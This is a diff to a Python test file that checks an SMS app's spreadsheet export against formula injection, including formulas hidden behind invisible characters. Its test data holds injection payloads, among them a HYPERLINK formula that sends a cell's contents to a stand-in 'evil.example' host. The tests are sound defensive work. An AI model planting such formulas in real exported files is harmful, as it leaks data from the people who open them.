@@ -7,6 +7,8 @@ import csv
 import openpyxl
 import pytest
 import python_calamine
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from kwtsms_desktop.importing import (
     ImportFailed,
@@ -43,14 +45,59 @@ def test_csv_has_bom_crlf_arabic_and_every_formula_start_guarded(tmp_path):
     assert [row[0] for row in rows[1:]] == ["3", "5", "7", "9", "11"]
 
 
-@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "＝1"])
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\tTAB", "\rx", "＝1"])
 def test_guard_formula_prefixes_dangerous_starts(text):
     assert guard_formula(text) == "'" + text
 
 
-@pytest.mark.parametrize("text", ["98765432", "Ali", "", "a=b", " =1"])
+@pytest.mark.parametrize(
+    "hidden",
+    ["\x00", " ", "   ", "\xa0", "\u200b", "\ufeff", "\u200e", "\u200f", "\u2066", "\u200d", "\t", "\r\n", "\x00 \ufeff\u200b\xa0"],
+)
+def test_invisible_characters_before_a_formula_are_removed_and_the_formula_guarded(hidden):
+    assert guard_formula(hidden + '=HYPERLINK("http://evil","x")') == '\'=HYPERLINK("http://evil","x")'
+    assert guard_formula(hidden + "+1") == "'+1"
+
+
+@pytest.mark.parametrize("text", ["98765432", "Ali", "", "a=b", " Ali", "\u200fأحمد", "1-2"])
 def test_guard_formula_leaves_safe_cells(text):
     assert guard_formula(text) == text
+
+
+def test_a_phone_number_with_plus_is_guarded_as_text_and_imports_again(tmp_path):
+    # +96598765432 would otherwise be the arithmetic 96598765432 in some spreadsheets; as text it is kept.
+    assert guard_formula("+96598765432") == "'+96598765432"
+    path = tmp_path / "numbers.csv"
+    export_rejected([Rejected(2, "+96598765432", "x")], path)
+    table = read_table(path)
+    result = build_recipients(table, detect_phone_column(table))
+    assert [r.number for r in result.valid] == ["96598765432"]
+
+
+def test_csv_and_xlsx_exports_never_hold_a_live_formula_behind_a_nul(tmp_path):
+    payload = '\x00=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    rejected = [Rejected(2, payload, "x"), Rejected(3, "\ufeff\xa0 =1+1", "x"), Rejected(4, "+96598765432", "x")]
+    csv_path, xlsx_path = tmp_path / "r.csv", tmp_path / "r.xlsx"
+    export_rejected(rejected, csv_path)
+    with open(csv_path, encoding="utf-8-sig", newline="") as stream:
+        cells = [row[1] for row in csv.reader(stream)][1:]
+    assert cells == ['\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'=1+1", "'+96598765432"]
+    export_rejected(rejected, xlsx_path)
+    sheet = openpyxl.load_workbook(xlsx_path).active
+    assert [sheet.cell(row, 2).value for row in (2, 3, 4)] == ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=1+1", "+96598765432"]
+    for row in (2, 3, 4):
+        assert sheet.cell(row, 2).data_type == "s" and sheet.cell(row, 2).quotePrefix  # text, marked as such
+    assert not sheet.cell(2, 3).quotePrefix
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(alphabet=st.sampled_from(["\x00", " ", "\xa0", "\u200b", "\ufeff", "\u200e", "\t", "\r", "=", "+", "-", "@", "a", "1", "＝"]), max_size=8))
+def test_no_guarded_cell_starts_a_formula_whatever_hides_in_front(text):
+    guarded = guard_formula(text)
+    if guarded.startswith("'"):
+        return
+    visible = guarded.lstrip("\x00 \xa0\u200b\ufeff\u200e\t\r")
+    assert not visible.startswith(("=", "+", "-", "@", "＝"))
 
 
 def test_xlsx_export_reads_back_with_openpyxl_and_calamine(tmp_path):
